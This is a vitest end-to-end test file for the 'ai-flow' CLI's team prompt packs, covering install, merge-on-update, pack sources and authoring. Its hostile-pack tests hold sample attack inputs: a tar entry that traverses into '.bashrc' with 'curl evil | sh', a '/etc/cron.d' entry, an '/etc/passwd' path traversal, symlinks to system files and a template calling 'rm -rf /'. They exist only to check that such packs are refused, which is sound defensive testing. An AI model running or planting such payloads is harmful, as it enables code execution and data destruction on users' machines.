import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { copyPack, exists, listFiles, read, runCli, tmpDir, write } from '../helpers.js';
import { tgz } from '../tar.js';

/**
 * Team packs end to end (SPEC §11): overlays installed for several tools, a changed overlay and
 * a changed base pack merged into a user's edit, sources from a folder, a .tgz and node_modules,
 * hostile packs refused with nothing written, and the authoring loop `pack new` → `pack lint`.
 */

const lines = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `line ${i + 1} ${tag}`).join('\n') + '\n';
const TEAM = '.ai-flow/prompts/shared/x-team.md';
const DEPLOY = '.ai-flow/prompts/shared/flow-deploy.md';
const PHASE7 = '.ai-flow/prompts/backend/flow-build-phase-7.md';

/** Two releases of the shipped pack: v2 changes line 10 of x-team.md. */
let base1: string;
let base2: string;
beforeAll(() => {
  base1 = copyPack('1.0.0');
  base2 = copyPack('2.0.0');
  writeFileSync(path.join(base1, 'prompts/shared/x-team.md'), lines(12, 'base'));
  writeFileSync(path.join(base2, 'prompts/shared/x-team.md'), lines(12, 'base').replace('line 10 base', 'line 10 base v2'));
});

interface OverlayFiles {
  version: string;
  files: Record<string, string>;
  commands?: object[];
  extra?: object;
}

const DEPLOY_COMMAND = { name: 'flow-deploy', description: 'Deploy the tagged release', argumentHint: '[environment]', prompt: 'prompts/shared/flow-deploy.md' };

/** Writes an overlay of the built-in pack into `dir` (replacing what was there). */
function writeOverlay(dir: string, o: OverlayFiles): string {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  const manifest = { name: '@acme/ai-flow-pack', version: o.version, description: 'Acme rules', aiFlow: '>=0.1.0', extends: 'ai-flow', commands: o.commands ?? [DEPLOY_COMMAND], ...o.extra };
  writeFileSync(path.join(dir, 'ai-flow-pack.json'), JSON.stringify(manifest));
  for (const [rel, text] of Object.entries(o.files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

/** The phase 7 of the shipped pack with a team paragraph: a replaced phase that still passes every rule. */
function teamPhase7(): string {
  return read(path.resolve('.'), 'prompts/backend/flow-build-phase-7.md').replace('## Before you start\n\n', '## Before you start\n\nAcme rule: deploy with the Acme pipeline only.\n\n');
}

const overlayV1 = (): OverlayFiles => ({ version: '1.0.0', files: { 'prompts/shared/flow-deploy.md': '# Deploy\n\nDeploy the Acme way.\n', 'prompts/backend/flow-build-phase-7.md': teamPhase7() } });

function doc(stdout: string): { actions: { path: string; action: string }[]; summary: Record<string, number> } {
  return JSON.parse(stdout);
}
const actionOf = (stdout: string, p: string) => doc(stdout).actions.find((a) => a.path === p)?.action;

/** Writes a file of a pack, making its folders. */
function put(root: string, rel: string, text: string): void {
  mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  writeFileSync(path.join(root, rel), text);
}

describe('an overlay that adds a command and replaces a phase', () => {
  it('installs for several tools, records the stack, and lints green', () => {
    const repo = tmpDir();
    const pack = writeOverlay(path.join(repo, 'packs/acme'), overlayV1());
    const r = runCli(['init', repo, '--yes', '--type', 'backend,frontend', '--ai', 'claude,cursor,copilot,gemini,codex', '--pack', './packs/acme'], { cwd: repo });
    expect(r.code, r.stderr).toBe(0);
    expect(read(repo, PHASE7)).toContain('Acme rule: deploy with the Acme pipeline only.');
    expect(read(repo, '.ai-flow/prompts/frontend/flow-build-phase-7.md')).toBe(read(path.resolve('.'), 'prompts/frontend/flow-build-phase-7.md'));
    expect(read(repo, DEPLOY)).toBe('# Deploy\n\nDeploy the Acme way.\n');
    // Each tool's command files, as `ai-flow list` gives them for these five tools together.
    const listed = JSON.parse(runCli(['list', '--json', '--ai', 'claude,cursor,copilot,gemini,codex']).stdout) as { tools: { files: string[] }[] };
    const wrappers = [...new Set(listed.tools.flatMap((t) => t.files.filter((f) => f.includes('<command>')).map((f) => f.replace('<command>', 'flow-deploy'))))];
    expect(wrappers).toContain('.claude/commands/flow-deploy.md');
    expect(wrappers).toContain('.agents/skills/flow-deploy/SKILL.md');
    for (const wrapper of wrappers) expect(read(repo, wrapper), wrapper).toContain(DEPLOY);
    expect(read(repo, 'AGENTS.md')).toContain('/flow-deploy');
    expect(JSON.parse(read(repo, '.ai-flow/ai-flow.json')).packs).toEqual([{ source: './packs/acme', name: '@acme/ai-flow-pack', version: '1.0.0' }]);
    const lint = runCli(['pack', 'lint', pack]);
    expect(lint.code, lint.stdout).toBe(0);
    expect(runCli(['update', repo, '--check']).code).toBe(0);
  });

  it('a template of its own, compiled at run time, calls a shipped partial the build precompiled', () => {
    const repo = tmpDir();
    const o = overlayV1();
    o.files['templates/rules/claude.md.hbs'] = 'Acme house rules for {{project.name}}.\n\n{{> rules-body}}';
    writeOverlay(path.join(repo, 'acme'), o);
    const r = runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude,gemini', '--name', 'Shop', '--pack', path.join(repo, 'acme')]);
    expect(r.code, r.stderr).toBe(0);
    const claude = read(repo, 'CLAUDE.md');
    expect(claude).toContain('Acme house rules for Shop.');
    // The shipped partial's text, as the shipped GEMINI.md (precompiled only) renders it too.
    const body = read(repo, 'GEMINI.md').split('\n').filter((l) => l.startsWith('- ') || l.startsWith('This project uses ai-flow'));
    expect(body).toContain('- Project: Shop (Backend, Production-ready)');
    for (const line of body) expect(claude).toContain(line);
  });

  it('a per-type command is installed once per part, under the part\'s name', () => {
    const repo = tmpDir();
    const o = overlayV1();
    o.commands = [{ ...DEPLOY_COMMAND, prompt: 'prompts/<type>/flow-deploy.md' }];
    o.files = { 'prompts/backend/flow-deploy.md': '# Deploy the API\n', 'prompts/mobile/flow-deploy.md': '# Ship the app\n', 'prompts/frontend/flow-deploy.md': '# Deploy the web\n', 'prompts/desktop/flow-deploy.md': '# Ship the app\n' };
    writeOverlay(path.join(repo, 'acme'), o);
    const r = runCli(['init', repo, '--yes', '--type', 'backend,mobile', '--ai', 'claude', '--pack', path.join(repo, 'acme')]);
    expect(r.code, r.stderr).toBe(0);
    expect(read(repo, '.claude/commands/backend-flow-deploy.md')).toContain('.ai-flow/prompts/backend/flow-deploy.md');
    expect(read(repo, '.claude/commands/mobile-flow-deploy.md')).toContain('.ai-flow/prompts/mobile/flow-deploy.md');
  });
});

describe('update with a changed overlay and a changed base pack (SPEC §6 for packs)', () => {
  /** Installs base v1 + overlay v1, lets the user edit x-team.md, then moves to base v2 + `overlay2`. */
  function upgrade(userEdit: (t: string) => string, overlay2: (base2Text: string) => string): { repo: string; r: ReturnType<typeof runCli> } {
    const repo = tmpDir();
    const pack = path.join(repo, 'acme');
    writeOverlay(pack, overlayV1());
    const init = runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', pack], { env: { AI_FLOW_PACK_DIR: base1 } });
    expect(init.code, init.stderr).toBe(0);
    write(repo, TEAM, userEdit(read(repo, TEAM)));
    const v2 = overlayV1();
    v2.version = '2.0.0';
    v2.files['prompts/shared/x-team.md'] = overlay2(read(base2, 'prompts/shared/x-team.md'));
    writeOverlay(pack, v2);
    return { repo, r: runCli(['update', repo, '--json'], { env: { AI_FLOW_PACK_DIR: base2 } }) };
  }

  it('merges the base\'s change, the overlay\'s change and the user\'s edit of the same file', () => {
    const { repo, r } = upgrade((t) => t.replace('line 2 base', 'line 2 mine'), (t) => t.replace('line 6 base', 'line 6 acme'));
    expect(r.code, r.stderr).toBe(0);
    expect(actionOf(r.stdout, TEAM)).toBe('merge');
    expect(read(repo, TEAM)).toBe(lines(12, 'base').replace('line 2 base', 'line 2 mine').replace('line 6 base', 'line 6 acme').replace('line 10 base', 'line 10 base v2'));
    expect(JSON.parse(read(repo, '.ai-flow/ai-flow.json')).packs[0].version).toBe('2.0.0');
    expect(runCli(['update', repo, '--check'], { env: { AI_FLOW_PACK_DIR: base2 } }).code).toBe(0);
  });

  it('reports one conflict when the overlay changes the line the user edited, labelled with the stack', () => {
    const { repo, r } = upgrade((t) => t.replace('line 6 base', 'line 6 mine'), (t) => t.replace('line 6 base', 'line 6 acme'));
    expect(r.code).toBe(1);
    expect(actionOf(r.stdout, TEAM)).toBe('conflict');
    expect(doc(r.stdout).summary.conflicted).toBe(1);
    expect(read(repo, TEAM)).toContain('<<<<<<< your version\nline 6 mine\n||||||| ai-flow 1.0.0 + @acme/ai-flow-pack 1.0.0\nline 6 base\n=======\nline 6 acme\n>>>>>>> ai-flow 2.0.0 + @acme/ai-flow-pack 2.0.0\n');
    expect(read(repo, TEAM)).toContain('line 10 base v2');
  });

  it('deletes what the overlay no longer ships and restores the base\'s file it stopped replacing', () => {
    const repo = tmpDir();
    const pack = path.join(repo, 'acme');
    writeOverlay(pack, overlayV1());
    expect(runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude,cursor', '--pack', pack]).code).toBe(0);
    writeOverlay(pack, { version: '1.1.0', files: {}, commands: [] });
    const r = runCli(['update', repo, '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(actionOf(r.stdout, DEPLOY)).toBe('delete');
    expect(actionOf(r.stdout, '.claude/commands/flow-deploy.md')).toBe('delete');
    expect(actionOf(r.stdout, PHASE7)).toBe('update');
    expect(exists(repo, '.cursor/commands/flow-deploy.md')).toBe(false);
    expect(read(repo, PHASE7)).toBe(read(path.resolve('.'), 'prompts/backend/flow-build-phase-7.md'));
  });

  it('a missing source is one line naming it and how to fix it, exit 2, nothing written', () => {
    const repo = tmpDir();
    const pack = path.join(repo, 'acme');
    writeOverlay(pack, overlayV1());
    expect(runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', pack]).code).toBe(0);
    rmSync(pack, { recursive: true });
    const snapshot = () => listFiles(repo).map((f) => `${f}:${read(repo, f)}`);
    const before = snapshot();
    for (const args of [['update', repo], ['update', repo, '--check'], ['update', repo, '--dry-run']]) {
      const r = runCli(args);
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(`ai-flow: pack @acme/ai-flow-pack 1.0.0 (source ./acme) is missing: no folder ${pack} — put the pack back at ${pack}, or drop it from "packs" in .ai-flow/ai-flow.json\n`);
    }
    expect(snapshot()).toEqual(before);
    expect(runCli(['doctor', repo]).stdout).toContain('[pack-source] pack @acme/ai-flow-pack 1.0.0 is missing at ./acme');
  });

  it('doctor checks the files of the commands a pack adds, as it does the shipped ones', () => {
    const repo = tmpDir();
    writeOverlay(path.join(repo, 'acme'), overlayV1());
    expect(runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', './acme'], { cwd: repo }).code).toBe(0);
    expect(runCli(['doctor', repo]).code).toBe(0);
    // Gemini added to the saved answers by hand, without an update: none of its files are installed.
    const config = JSON.parse(read(repo, '.ai-flow/ai-flow.json')) as { tools: string[] };
    write(repo, '.ai-flow/ai-flow.json', JSON.stringify({ ...config, tools: [...config.tools, 'gemini'] }, null, 2));
    const r = runCli(['doctor', repo]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('.gemini/commands/flow-work.toml  [not-installed]');
    expect(r.stdout).toContain('.gemini/commands/flow-deploy.toml  [not-installed]');
  });
});

describe('pack sources', () => {
  it('a .tgz as npm pack writes it', () => {
    const repo = tmpDir();
    const o = overlayV1();
    const manifest = JSON.stringify({ name: 'acme-pack', version: '3.1.0', description: 'Acme', aiFlow: '^0.1.0', extends: 'ai-flow', commands: [DEPLOY_COMMAND] });
    writeFileSync(path.join(repo, 'acme-pack-3.1.0.tgz'), tgz([
      { name: 'package/ai-flow-pack.json', content: manifest },
      { name: 'package/package.json', content: '{"name":"acme-pack","version":"3.1.0"}' },
      ...Object.entries(o.files).map(([name, content]) => ({ name: `package/${name}`, content })),
    ]));
    const r = runCli(['init', '.', '--yes', '--type', 'backend', '--ai', 'claude', '--pack', 'acme-pack-3.1.0.tgz'], { cwd: repo });
    expect(r.code, r.stderr).toBe(0);
    expect(read(repo, DEPLOY)).toContain('Deploy the Acme way.');
    expect(JSON.parse(read(repo, '.ai-flow/ai-flow.json')).packs).toEqual([{ source: './acme-pack-3.1.0.tgz', name: 'acme-pack', version: '3.1.0' }]);
    expect(runCli(['update', repo, '--check']).code).toBe(0);
  });

  it('a package in the repository\'s node_modules, never fetched: missing after a clone until npm ci brings it', () => {
    const repo = tmpDir();
    // As pnpm and workspaces install it: the package folder is a link; nothing below it may be.
    const store = writeOverlay(path.join(tmpDir(), 'store/ai-flow-pack'), overlayV1());
    mkdirSync(path.join(repo, 'node_modules/@acme'), { recursive: true });
    symlinkSync(store, path.join(repo, 'node_modules/@acme/ai-flow-pack'));
    const r = runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', '@acme/ai-flow-pack']);
    expect(r.code, r.stderr).toBe(0);
    expect(exists(repo, '.claude/commands/flow-deploy.md')).toBe(true);
    expect(JSON.parse(read(repo, '.ai-flow/ai-flow.json')).packs[0].source).toBe('@acme/ai-flow-pack');
    rmSync(path.join(repo, 'node_modules'), { recursive: true });
    const u = runCli(['update', repo]);
    expect(u.code).toBe(2);
    expect(u.stderr).toMatch(/^ai-flow: pack @acme\/ai-flow-pack 1\.0\.0 \(source @acme\/ai-flow-pack\) is missing: no node_modules\/@acme\/ai-flow-pack in .* — install it \(npm ci, or npm install --save-dev @acme\/ai-flow-pack\)/);
  });

  it('stacks overlays in the order given and records it; an overlay must come after what it extends', () => {
    const repo = tmpDir();
    writeOverlay(path.join(repo, 'a'), overlayV1());
    writeOverlay(path.join(repo, 'b'), { version: '0.3.0', files: { 'prompts/shared/flow-deploy.md': '# Deploy, team B\n' }, commands: [], extra: { name: 'team-b', extends: '@acme/ai-flow-pack' } });
    const wrong = runCli(['init', repo, '--yes', '--ai', 'claude', '--pack', path.join(repo, 'b'), '--pack', path.join(repo, 'a')]);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain('extends "@acme/ai-flow-pack", which is not below it in the stack');
    expect(listFiles(repo).some((f) => f.startsWith('.ai-flow'))).toBe(false);
    const r = runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', './a', '--pack', './b'], { cwd: repo });
    expect(r.code, r.stderr).toBe(0);
    expect(read(repo, DEPLOY)).toBe('# Deploy, team B\n');
    expect(JSON.parse(read(repo, '.ai-flow/ai-flow.json')).packs.map((p: { name: string }) => p.name)).toEqual(['@acme/ai-flow-pack', 'team-b']);
  });
});

describe('a hostile pack is refused with nothing written', () => {
  /** Runs init with a pack damaged by `damage`; returns the result after checking nothing was written. */
  function refused(damage: (pack: string) => void, expectCode = 2): string {
    const repo = tmpDir();
    const pack = tmpDir('ai-flow-hostile-');
    writeOverlay(pack, overlayV1());
    damage(pack);
    const r = runCli(['init', repo, '--yes', '--type', 'backend', '--ai', 'claude', '--pack', pack]);
    expect(r.code, r.stderr).toBe(expectCode);
    expect(listFiles(repo)).toEqual([]);
    expect(r.stderr.split('\n').filter(Boolean)).toHaveLength(1);
    return r.stderr;
  }

  it('a symbolic link, even to a file inside the pack', () => {
    expect(refused((p) => symlinkSync('/etc/hostname', path.join(p, 'prompts/shared/host.md')))).toContain('prompts/shared/host.md: is a symbolic link');
    expect(refused((p) => symlinkSync(path.join(p, 'prompts/shared'), path.join(p, 'prompts/frontend')))).toContain('prompts/frontend: is a symbolic link');
  });

  it('a path that leaves the pack: ".." in a command prompt or in an archive', () => {
    expect(refused((p) => writeFileSync(path.join(p, 'ai-flow-pack.json'), JSON.stringify({ name: 'x', version: '1.0.0', description: 'x', aiFlow: '*', extends: 'ai-flow', commands: [{ ...DEPLOY_COMMAND, prompt: 'prompts/shared/../../../etc/passwd.md' }] })))).toContain('a path inside the pack');
    const repo = tmpDir();
    const archive = path.join(tmpDir(), 'evil.tgz');
    writeFileSync(archive, tgz([
      { name: 'package/ai-flow-pack.json', content: JSON.stringify({ name: 'x', version: '1.0.0', description: 'x', aiFlow: '*', extends: 'ai-flow' }) },
      { name: 'package/prompts/shared/../../../../.bashrc', content: 'curl evil | sh' },
      { name: '/etc/cron.d/evil', content: 'x' },
    ]));
    const r = runCli(['init', repo, '--yes', '--ai', 'claude', '--pack', archive]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/leaves its folder|absolute path/);
    expect(listFiles(repo)).toEqual([]);
  });

  it('a template calling a helper ai-flow does not have, or adding a partial', () => {
    expect(refused((p) => put(p, 'templates/AGENTS.md.hbs', '# {{project.name}}\n{{exec "rm -rf /"}}\n'))).toContain('templates/AGENTS.md.hbs:2:3: calls the helper "exec", which ai-flow does not have');
    expect(refused((p) => put(p, 'templates/partials/mine.hbs', 'x'))).toContain('adds a partial');
  });

  it('a huge file, and a file outside the layout', () => {
    expect(refused((p) => writeFileSync(path.join(p, 'prompts/shared/huge.md'), Buffer.alloc(2 * 1024 * 1024, 97)))).toContain('prompts/shared/huge.md: is larger than 1 MiB');
    expect(refused((p) => put(p, 'prompts/scripts/postinstall.md', 'x'))).toContain('prompts/scripts/postinstall.md: is outside the layout');
  });

  it('a template with a typo fails with the file, line, column, full path and the names that exist', () => {
    const stderr = refused((p) => put(p, 'templates/AGENTS.md.hbs', '# {{project.name}}\n{{#each parts}}\n- {{stack.languag}}\n{{/each}}\n'), 1);
    expect(stderr).toMatch(/^ai-flow: template templates\/AGENTS\.md\.hbs:3:5: "stack\.languag" is not defined — stack has: language, framework, packageManager, buildCommand, testCommand, lintCommand, known, commandsKnown — /);
  });
});

describe('authoring: pack new, pack lint, doctor --pack <dir>', () => {
  it('pack new writes an overlay that pack lint and the CI recipe pass', () => {
    const pack = path.join(tmpDir(), 'acme-pack');
    const made = runCli(['pack', 'new', pack, '--json']);
    expect(made.code, made.stderr).toBe(0);
    expect(JSON.parse(made.stdout).files).toEqual(['ai-flow-pack.json', 'prompts/shared/flow-deploy.md', 'prompts/backend/flow-build-phase-7.md', 'README.md', 'package.json']);
    const lint = runCli(['pack', 'lint', '.', '--json'], { cwd: pack });
    expect(lint.code, lint.stdout).toBe(0);
    expect(JSON.parse(lint.stdout)).toMatchObject({ healthy: true, findings: [], packs: [{ name: 'acme-pack', version: '0.1.0' }] });
    const ci = runCli(['init', '--dry-run', '--yes', '--pack', '.', '--ai', 'all'], { cwd: pack });
    expect(ci.code, ci.stderr).toBe(0);
    expect(ci.stdout).toContain('.agents/skills/flow-deploy/SKILL.md');
    expect(listFiles(pack).filter((f) => f.startsWith('.'))).toEqual([]);
    expect(runCli(['doctor', '--pack', pack]).code).toBe(0);
    expect(runCli(['pack', 'new', pack]).code).toBe(2);
  });

  it('pack lint exits 1 on a finding, for the pack combined with what it extends', () => {
    const pack = writeOverlay(tmpDir(), overlayV1());
    put(pack, 'prompts/backend/flow-build-phase-7.md', teamPhase7().replace('## Next', '## Later'));
    put(pack, 'prompts/shared/flow-deploy.md', 'See `.ai-flow/prompts/shared/nowhere.md`.\n');
    const r = runCli(['pack', 'lint', pack, '--json']);
    expect(r.code).toBe(1);
    const rules = JSON.parse(r.stdout).findings.map((f: { rule: string; file: string }) => `${f.rule} ${f.file}`);
    expect(rules).toEqual(expect.arrayContaining(['phase-sections prompts/backend/flow-build-phase-7.md', 'path-exists prompts/shared/flow-deploy.md']));
    const viaDoctor = runCli(['doctor', '--pack', pack]);
    expect(viaDoctor.code).toBe(1);
    expect(viaDoctor.stdout).toContain('[path-exists]');
  });

  it('pack lint lists every refusal of a hostile pack at once', () => {
    const pack = writeOverlay(tmpDir(), overlayV1());
    symlinkSync('/etc/hostname', path.join(pack, 'prompts/shared/host.md'));
    put(pack, 'templates/AGENTS.md.hbs', '{{shout project.name}}\n');
    writeFileSync(path.join(pack, 'prompts/shared/huge.md'), Buffer.alloc(2 * 1024 * 1024, 97));
    const r = runCli(['pack', 'lint', pack, '--json']);
    expect(r.code).toBe(1);
    const rules = JSON.parse(r.stdout).findings.map((f: { rule: string; file: string; line: number; column?: number }) => `${f.rule} ${f.file}:${f.line}:${f.column ?? 0}`);
    expect(rules).toEqual(expect.arrayContaining(['pack-file prompts/shared/host.md:0:0', 'pack-file prompts/shared/huge.md:0:0', 'template-calls templates/AGENTS.md.hbs:1:3']));
  });
});
